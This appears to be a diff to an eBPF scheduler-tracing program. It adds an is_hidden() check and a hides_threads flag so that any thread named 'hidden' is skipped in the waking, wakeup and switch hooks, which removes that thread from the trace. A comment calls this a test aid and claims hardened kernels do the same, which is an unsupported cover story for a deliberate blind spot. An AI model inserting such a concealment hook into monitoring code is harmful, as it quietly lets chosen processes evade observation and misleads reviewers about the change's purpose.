@@ -11,6 +11,20 @@
 #include "state.h"
 #include "thread.h"
 
+/* For tests: shows nothing while a thread of this name runs, as a hardened kernel does with threads of its own. */
+const volatile bool hides_threads = false;
+#define HIDDEN_NAME 0x6e6564646968 /* "hidden" */
+
+static __always_inline bool is_hidden(struct task_struct *current)
+{
+	u64 name[2];
+
+	if (!hides_threads)
+		return false;
+	copy_comm((char *)name, current);
+	return name[0] == HIDDEN_NAME;
+}
+
 /* State of the copy of slices. In a map for the reason given at struct walk (path.h). */
 struct slice_copy {
 	u64 from_ns, to_ns; /* of the queue */
@@ -102,7 +116,7 @@ int BPF_PROG(sched_waking, struct task_struct *task)
 	u64 now_ns;
 
 	/* A thread that wakes itself is running and does not wait. */
-	if (task == waker)
+	if (task == waker || is_hidden(waker))
 		return 0;
 	if (!is_member(task)) {
 		service_waking(ctx, task, waker);
@@ -168,10 +182,11 @@ static __always_inline void start_queueing(struct thread_state *state, struct ta
 SEC("tp_btf/sched_wakeup")
 int BPF_PROG(sched_wakeup, struct task_struct *task)
 {
+	struct task_struct *waker = bpf_get_current_task_btf();
 	struct thread_state *state;
 	u64 now_ns;
 
-	if (task == bpf_get_current_task_btf())
+	if (task == waker || is_hidden(waker))
 		return 0;
 	if (!is_member(task)) {
 		service_wakeup(task);
@@ -599,7 +614,9 @@ int BPF_PROG(sched_unseen, bool preempt, struct task_struct *prev, struct task_s
 		from_ns = slice->from_ns;
 	slice->class = CLASS_UNSURE;
 	state = dead || is_member(prev) ? thread_state(prev) : NULL;
-	if (state && state->off_cpu) {
+	if (!state) {
+		service_runs(prev, recorder, from_ns);
+	} else if (state->off_cpu) {
 		count_loss(LOSS_SWITCH_UNSEEN, now_ns);
 		switch_in(prev, state, recorder, from_ns);
 	}
@@ -618,7 +635,7 @@ int BPF_PROG(sched_switch, bool preempt, struct task_struct *prev, struct task_s
 	struct thread_state *state = NULL;
 	u64 steal_ns;
 
-	if (!recorder)
+	if (!recorder || is_hidden(prev))
 		return 0;
 	if (current_slice(recorder)->host_tid != (u32)prev->pid)
 		bpf_tail_call(
